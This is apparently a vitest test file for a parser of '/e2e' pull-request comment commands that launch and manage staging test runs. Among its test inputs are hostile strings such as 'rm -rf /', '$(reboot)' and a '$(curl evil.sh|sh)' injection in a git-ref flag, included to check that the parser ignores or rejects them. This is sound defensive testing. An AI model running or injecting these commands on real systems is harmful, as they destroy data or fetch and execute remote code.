import { describe, expect, it } from 'vitest';
import { parsePrComment } from '../../src/commands/index.ts';
import { CommandError } from '../../src/errors.ts';
import { ctx } from './context.ts';

const LAUNCH = { verb: 'launch', env: null, browsers: null, keepMs: null, ref: null, dryRun: false };

describe('PR comment commands', () => {
  it.each([
    ['/e2e', LAUNCH],
    ['/e2e   ', LAUNCH],
    ['  /e2e', LAUNCH],
    ['/e2e\r\nthanks!', LAUNCH],
    ['/e2e stg2 --browsers=chrome,firefox --keep=2h', { ...LAUNCH, env: 'stg2', browsers: ['chrome', 'firefox'], keepMs: 7_200_000 }],
    ['/e2e stg2 --browsers chrome,firefox --keep 2h', { ...LAUNCH, env: 'stg2', browsers: ['chrome', 'firefox'], keepMs: 7_200_000 }],
    ['/e2e --keep', { ...LAUNCH, keepMs: 'default' }],
    ['/e2e --ref=feature/login --dry-run', { ...LAUNCH, ref: 'feature/login', dryRun: true }],
    ['/e2e launch stg1', { ...LAUNCH, env: 'stg1' }],
    ['/e2e\tstg3', { ...LAUNCH, env: 'stg3' }],
    ['/e2e cancel', { verb: 'cancel', run: null }],
    ['/e2e CANCEL', { verb: 'cancel', run: null }],
    ['/e2e help', { verb: 'help', topic: null }],
    ['/e2e help cancel', { verb: 'help', topic: 'cancel' }],
    ['/e2e --help', { verb: 'help', topic: null }],
    ['/e2e images', { verb: 'images', image: null }],
    ['/e2e images mentor-app', { verb: 'images', image: 'mentor-app' }],
    ['/e2e bake mentor-app', { verb: 'bake', image: 'mentor-app', ref: null, dryRun: false }],
    ['/e2e bake mentor-app --ref=release/2.4 --dry-run', { verb: 'bake', image: 'mentor-app', ref: 'release/2.4', dryRun: true }],
    ['/e2e promote mentor-app --to=stable', { verb: 'promote', image: 'mentor-app', source: 'candidate', to: 'stable' }],
    ['/e2e promote mentor-app ami-0a1b2c3d4e5f60718 --to=latest', { verb: 'promote', image: 'mentor-app', source: 'ami-0a1b2c3d4e5f60718', to: 'latest' }],
  ])('%j', (body, expected) => {
    expect(parsePrComment(body, ctx)).toEqual(expected);
  });

  it('only the first line counts in a multi-line comment', () => {
    const body = '/e2e stg4 --browsers=safari\n\nThis PR changes the login form.\n/e2e cancel\n`rm -rf /` $(reboot)\u0000';
    expect(parsePrComment(body, ctx)).toEqual({ ...LAUNCH, env: 'stg4', browsers: ['safari'] });
  });

  it.each([
    ['plain text', 'LGTM, ship it'],
    ['command later in the comment', 'Could you run\n/e2e stg2'],
    ['command not at the start of the line', 'please /e2e'],
    ['quoted reply', '> /e2e stg2'],
    ['markdown code block (4-space indent)', '    /e2e stg2'],
    ['inline code', '`/e2e`'],
    ['glued suffix', '/e2ex'],
    ['other slash command', '/e2e-run stg2'],
    ['upper case', '/E2E'],
    ['empty', ''],
    ['zero-width before it', '\u200b/e2e'],
    ['junk that is not a command', '\u0000\u202e rm -rf /'],
  ])('%s is not a command (null)', (_name, body) => {
    expect(parsePrComment(body, ctx)).toBeNull();
  });

  it.each([
    ['/e2e status', '`/e2e status` is not available in pull-request comments; use `/e2e [env] [flags]`, `/e2e cancel`, `/e2e retest [browser]`, `/e2e images [image]`, `/e2e bake <image>`, `/e2e promote <image> --to=latest|stable` or `/e2e help`'],
    ['/e2e teardown stg4-20261121-a1b2c3', '`/e2e teardown` is not available in pull-request comments; use `/e2e [env] [flags]`, `/e2e cancel`, `/e2e retest [browser]`, `/e2e images [image]`, `/e2e bake <image>`, `/e2e promote <image> --to=latest|stable` or `/e2e help`'],
    ['/e2e cancel stg4-20261121-a1b2c3', "`/e2e cancel` takes no run id: it cancels this pull request's run"],
    ['/e2e bake', 'bake needs an image, e.g. `bake mentor-app`'],
    ['/e2e promote mentor-app', 'promote needs `--to`, e.g. `promote mentor-app --to=latest`'],
    ['/e2e canel', 'unknown command `canel` — did you mean `cancel`? (in a pull request: launch, cancel, retest, images, bake, promote, help)'],
    ['/e2e stg9', 'unknown environment `stg9`; known: stg1, stg2, stg3, stg4'],
    ['/e2e stg2 stg3', 'unexpected argument `stg3`; usage: `/e2e [env] [--browsers=a,b] [--keep[=DURATION]] [--ref=REF] [--dry-run] [--ami=candidate|AMI]`'],
    ['/e2e help status', 'unknown command `status`; commands: launch, cancel, retest, images, bake, promote, help'],
    ['/e2e --browsers=opera', 'unknown browser `opera`; known: chrome, firefox, safari, edge'],
    ['/e2e --ref=$(curl evil.sh|sh)', 'unknown environment `evil.sh|sh)`; known: stg1, stg2, stg3, stg4'],
    ['/e2e --ref=$(curl', '`--ref=$(curl` is not a safe git ref (`$` is not allowed); use a branch, tag or commit SHA made of letters, digits and . _ - /'],
    ['/e2e stg1 \u202e', 'the command contains an invisible text-direction character (U+202E) at position 11; retype it without hidden characters'],
    [`/e2e ${'x'.repeat(1000)}`, 'the command is 1005 characters long; the limit is 1000'],
  ])('%j is rejected', (body, message) => {
    expect(() => parsePrComment(body, ctx)).toThrow(CommandError);
    expect(() => parsePrComment(body, ctx)).toThrow(message);
  });

  it('a long comment below a short command is fine', () => {
    expect(parsePrComment(`/e2e stg1\n${'lorem ipsum '.repeat(2000)}`, ctx)).toMatchObject({ env: 'stg1' });
  });

  it('the repository pool is whatever the caller puts in the context', () => {
    const pool = { ...ctx, environments: ['stg3', 'stg4'] };
    expect(() => parsePrComment('/e2e stg1', pool)).toThrow('unknown environment `stg1`; known: stg3, stg4');
    expect(parsePrComment('/e2e stg3', pool)).toMatchObject({ env: 'stg3' });
  });
});
